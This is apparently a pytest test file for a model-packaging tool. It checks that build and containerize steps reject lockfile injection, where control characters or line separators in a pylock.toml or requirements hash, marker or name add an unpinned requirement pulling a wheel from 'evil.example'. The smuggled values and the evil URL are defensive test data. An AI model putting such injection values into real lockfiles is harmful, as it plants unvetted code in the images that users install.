"""Lockfile injection: a value in a lockfile becomes a line of the requirements an image installs.

The attack: a line separator inside a pylock.toml hash value (TOML writes it as an escape,
so the file looks like one line per key) passed build, sign and verify, and `mpkg
containerize` wrote it out as `--hash=sha256:aaa…` followed by a new line
`evil @ https://evil.example/evil.whl`: an extra, unpinned, unhashed requirement in the
image. Now every lockfile field is validated at build, and again when containerize reads a
package's lockfile (the package may have been built by an older or hostile builder), and
containerize writes only the validated pins.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from mpkg._internal.format import canonical
from mpkg._internal.format.digests import hash_bytes
from mpkg._internal.format.manifest import MANIFEST_NAME, SIGNATURES_NAME

from tests.attacks.checks import Keys
from tests.attacks.craft import envelope, members_of, rebuild, write
from tests.conftest import EXAMPLES, RunMpkg

EVIL = "evil @ https://evil.example/evil-1.0-py3-none-any.whl"
GOOD_HASH = "a" * 64
SEPARATORS = {
    "newline": "\n",
    "carriage-return": "\r",
    "line-separator-u2028": "\u2028",
    "paragraph-separator-u2029": "\u2029",
    "next-line-u0085": "\x85",
    "vertical-tab": "\x0b",
    "form-feed": "\x0c",
    "file-separator-u001c": "\x1c",
    "nul": "\x00",
}


def pylock(hash_value: str = GOOD_HASH, marker: str = "python_version >= '3.11'", name: str = "numpy") -> str:
    """A PEP 751 lock of the iris example's pins; strings written with JSON escapes (valid TOML)."""
    return f"""lock-version = "1.0"
created-by = "hand"
requires-python = ">=3.11"

[[packages]]
name = {json.dumps(name)}
version = "2.4.6"
marker = {json.dumps(marker)}
[[packages.wheels]]
name = "numpy-2.4.6-cp311-cp311-manylinux_2_28_x86_64.whl"
url = "https://files.example/numpy.whl"
hashes = {{ sha256 = {json.dumps(hash_value)} }}

[[packages]]
name = "onnxruntime"
version = "1.32.0"
[[packages.wheels]]
name = "onnxruntime-1.32.0-cp311-cp311-manylinux_2_27_x86_64.whl"
url = "https://files.example/ort.whl"
hashes = {{ sha256 = "{"b" * 64}" }}
"""


def iris_source(root: Path, lock_text: str) -> Path:
    src = root / "src"
    shutil.copytree(EXAMPLES / "iris-mlp", src)
    (src / "requirements.lock").unlink()
    (src / "pylock.toml").write_text(lock_text)
    toml = src / "mpkg.toml"
    toml.write_text(toml.read_text().replace('lockfile = "requirements.lock"', 'lockfile = "pylock.toml"'))
    return src


@pytest.mark.parametrize("separator", sorted(SEPARATORS))
def test_lockfile_injection_is_refused_at_build(run_mpkg: RunMpkg, tmp_path: Path, separator: str) -> None:
    src = iris_source(tmp_path, pylock(GOOD_HASH + SEPARATORS[separator] + EVIL))
    proc = run_mpkg("build", src, "-o", tmp_path / "out.mpkg", expect=1)
    assert proc.stderr.strip().splitlines() == [
        "mpkg: pylock.toml: packages[0].wheels[0].hashes.sha256: holds a control character or line "
        "separator; lockfile values are one line"
    ]
    assert not (tmp_path / "out.mpkg").exists()


@pytest.mark.parametrize(
    ("lock_text", "reason"),
    [
        (pylock("A" * 63 + "!"), "hash 'sha256:" + "a" * 63 + "!' must be sha256:, sha384: or sha512:"),
        (pylock("a" * 63), "must be sha256:, sha384: or sha512: with lowercase hex of the right length"),
        (pylock("\u0661" * 64), "must be sha256:, sha384: or sha512: with lowercase hex of the right length"),
        (pylock(marker="python_version >= '3.11' or evil"), "marker"),
        (pylock(name="numpy ; evil"), "is not a valid PEP 751 lock"),
        (pylock().replace("sha256 =", "md5 =", 1), "hash algorithm 'md5' is not sha256, sha384 or sha512"),
    ],
    ids=["bad-hex", "short-hash", "unicode-digits", "marker", "name", "md5"],
)
def test_lockfile_fields_are_validated(run_mpkg: RunMpkg, tmp_path: Path, lock_text: str, reason: str) -> None:
    proc = run_mpkg("build", iris_source(tmp_path, lock_text), "-o", tmp_path / "out.mpkg", expect=1)
    assert reason in proc.stderr and proc.stderr.count("\n") == 1, proc.stderr


def test_requirements_lockfile_injection(run_mpkg: RunMpkg, tmp_path: Path) -> None:
    """The requirements format: a form feed splits the line (as pip splits it), so the evil
    half is a URL requirement of its own; an escape character is refused outright."""
    src = iris_source(tmp_path, "")
    (src / "pylock.toml").unlink()
    toml = src / "mpkg.toml"
    toml.write_text(toml.read_text().replace('lockfile = "pylock.toml"', 'lockfile = "requirements.lock"'))
    for text, reason in (
        (f"numpy==2.4.6\x0c{EVIL}\nonnxruntime==1.32.0\n", "is a URL requirement, not pinned by version"),
        ("numpy==2.4.6\x1b[2K\nonnxruntime==1.32.0\n", "holds a control character; a lockfile line is plain text"),
    ):
        (src / "requirements.lock").write_text(text)
        proc = run_mpkg("build", src, "-o", tmp_path / "out.mpkg", expect=1)
        assert reason in proc.stderr, proc.stderr


def _signed_with_lockfile(built_pkg: Path, lock_text: str, keys: Keys, out: Path) -> Path:
    """``built_pkg`` with its environment/pylock.toml replaced (size and digest updated), signed
    by a trusted key: what a builder without these checks would have produced."""
    lock = lock_text.encode()
    pairs = [(n, d) for n, d in members_of(built_pkg) if n != SIGNATURES_NAME]
    doc = json.loads(dict(pairs)[MANIFEST_NAME])
    for entry in doc["files"]:
        if entry["path"] == "environment/pylock.toml":
            entry["size"], entry["digest"] = len(lock), str(hash_bytes(lock))
    manifest = canonical.dumps(doc)
    pairs = [(n, lock if n == "environment/pylock.toml" else manifest if n == MANIFEST_NAME else d) for n, d in pairs]
    pairs.append((SIGNATURES_NAME, envelope(manifest, [keys.a.key])))
    return write(out, rebuild(pairs))


def test_lockfile_injection_in_a_package_built_elsewhere(run_mpkg: RunMpkg, tmp_path: Path, keys: Keys) -> None:
    """A signed package whose lockfile carries the injection verifies (the lockfile is content),
    but containerize re-validates it and refuses before writing anything."""
    src = iris_source(tmp_path, pylock())
    run_mpkg("build", src, "-o", tmp_path / "good.mpkg", expect=0)
    pkg = _signed_with_lockfile(tmp_path / "good.mpkg", pylock(GOOD_HASH + "\n" + EVIL), keys, tmp_path / "evil.mpkg")
    run_mpkg("verify", pkg, "--key", keys.a.pub, expect=0)
    ctx = tmp_path / "ctx"
    proc = run_mpkg(
        "containerize", pkg, "-t", "iris:1", "--key", keys.a.pub, "--context-only", ctx,
        "--base", "python:3.11-slim-bookworm@sha256:" + "0" * 64, expect=1,
    )  # fmt: skip
    assert proc.stderr.strip().splitlines() == [
        f"mpkg: {pkg}: environment/pylock.toml: packages[0].wheels[0].hashes.sha256: holds a control "
        "character or line separator; lockfile values are one line"
    ]
    assert not ctx.exists() and [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_unpinned_base_image_without_an_engine(run_mpkg: RunMpkg, tmp_path: Path, keys: Keys) -> None:
    """A base given by tag is resolved to a digest through the engine; with none, containerize
    says how to pin it instead of writing FROM a tag that can move."""
    src = iris_source(tmp_path, pylock())
    run_mpkg("build", src, "-o", tmp_path / "p.mpkg", "--key", _key_file(keys, tmp_path), expect=0)
    proc = run_mpkg(
        "containerize", tmp_path / "p.mpkg", "-t", "iris:1", "--key", keys.a.pub, "--context-only",
        tmp_path / "ctx", "--base", "python:3.11-slim-bookworm", env={"DOCKER_HOST": "unix:///nonexistent.sock"},
        expect=1,
    )  # fmt: skip
    assert proc.stderr.strip().splitlines() == [
        "mpkg: --base python:3.11-slim-bookworm is a tag, which can move, and no container engine is here to "
        "resolve it; pin it by digest: --base python:3.11-slim-bookworm@sha256:<digest> (`podman image inspect "
        "python:3.11-slim-bookworm` or `docker buildx imagetools inspect python:3.11-slim-bookworm` shows it), "
        "or pull it where containerize can ask the engine"
    ]
    assert not (tmp_path / "ctx").exists()


def _key_file(keys: Keys, tmp: Path) -> Path:
    from cryptography.hazmat.primitives import serialization

    pem = keys.a.key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    return write(tmp / "a.key", pem)
